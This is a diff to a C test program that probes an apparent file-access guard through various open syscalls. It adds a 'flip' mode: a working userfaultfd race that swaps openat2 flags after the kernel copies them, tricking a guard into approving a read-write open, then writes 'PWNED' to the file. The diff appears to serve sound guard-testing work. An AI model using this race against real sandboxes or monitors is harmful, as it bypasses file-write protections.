@@ -7,16 +7,24 @@
  *                                  prints "ok K denied D failed F"
  *
  * MODE: open, openat, openat2, creat (truncates!), handle (open_by_handle_at),
- * uring (io_uring IORING_OP_OPENAT, which no syscall hook sees).
+ * uring (io_uring IORING_OP_OPENAT, which no syscall hook sees), and one
+ * that attacks the guard's judgement of an openat2 asking for O_RDWR:
+ *   flip     a second thread sets its struct open_how to O_RDONLY once the
+ *            kernel has copied it; on success writes "PWNED" at offset 0
  * The fd stays open until exit; exit status 0 when the open succeeded.
  */
 #include <errno.h>
 #include <fcntl.h>
 #include <liburing.h>
 #include <linux/openat2.h>
+#include <linux/userfaultfd.h>
+#include <pthread.h>
+#include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ioctl.h>
+#include <sys/mman.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
 #include <unistd.h>
@@ -59,6 +67,66 @@ static int open_uring(const char *path, int flags)
 	return rc;
 }
 
+static int openat2_at(const char *path, struct open_how *how)
+{
+	int fd = syscall(SYS_openat2, AT_FDCWD, path, how, sizeof(*how));
+
+	return fd < 0 ? -errno : fd;
+}
+
+struct flip {
+	int uffd;
+	char *page;		/* where the path goes, missing until asked for */
+	const char *path;
+	struct open_how how;
+};
+
+/*
+ * openat2 copies its struct open_how, then the path: the path's page
+ * faults here, after the kernel has its O_RDWR copy, and before the open
+ * reaches the guard. Flip the flags, then let the path in.
+ */
+static void *flip_fault(void *arg)
+{
+	static char src[4096] __attribute__((aligned(4096)));
+	struct flip *f = arg;
+	struct uffd_msg msg;
+	struct uffdio_copy copy = {
+		.dst = (uintptr_t)f->page, .src = (uintptr_t)src, .len = sizeof(src),
+	};
+
+	if (read(f->uffd, &msg, sizeof(msg)) != sizeof(msg) || msg.event != UFFD_EVENT_PAGEFAULT)
+		return NULL;
+	f->how.flags = O_RDONLY;
+	snprintf(src, sizeof(src), "%s", f->path);
+	if (ioctl(f->uffd, UFFDIO_COPY, &copy) < 0)
+		perror("UFFDIO_COPY");
+	return NULL;
+}
+
+static int open_flip(const char *path)
+{
+	struct flip f = { .path = path, .how.flags = O_RDWR };
+	struct uffdio_api api = { .api = UFFD_API };
+	struct uffdio_register reg = { .mode = UFFDIO_REGISTER_MODE_MISSING };
+	pthread_t t;
+	int fd;
+
+	f.uffd = syscall(SYS_userfaultfd, O_CLOEXEC);
+	f.page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	reg.range.start = (uintptr_t)f.page;
+	reg.range.len = 4096;
+	if (f.uffd < 0 || f.page == MAP_FAILED || ioctl(f.uffd, UFFDIO_API, &api) < 0 ||
+	    ioctl(f.uffd, UFFDIO_REGISTER, &reg) < 0 ||
+	    pthread_create(&t, NULL, flip_fault, &f))
+		return -errno;
+	fd = openat2_at(f.page, &f.how);
+	pthread_join(t, NULL);
+	if (fd >= 0 && pwrite(fd, "PWNED", 5, 0) != 5)
+		perror("pwrite");
+	return fd;
+}
+
 /* Returns the fd or -errno. */
 static int do_open(const char *mode, const char *path, int flags)
 {
@@ -70,13 +138,16 @@ static int do_open(const char *mode, const char *path, int flags)
 	else if (!strcmp(mode, "openat"))
 		fd = openat(AT_FDCWD, path, flags);
 	else if (!strcmp(mode, "openat2"))
-		fd = syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof(how));
+		return openat2_at(path, &how);
 	else if (!strcmp(mode, "creat"))
 		fd = creat(path, 0644);
 	else if (!strcmp(mode, "handle"))
 		return open_handle(path, flags);
 	else if (!strcmp(mode, "uring"))
 		return open_uring(path, flags);
+	else if (!strcmp(mode, "flip"))
+		return open_flip(path);
+
 	else
 		return -EINVAL;
 	return fd < 0 ? -errno : fd;
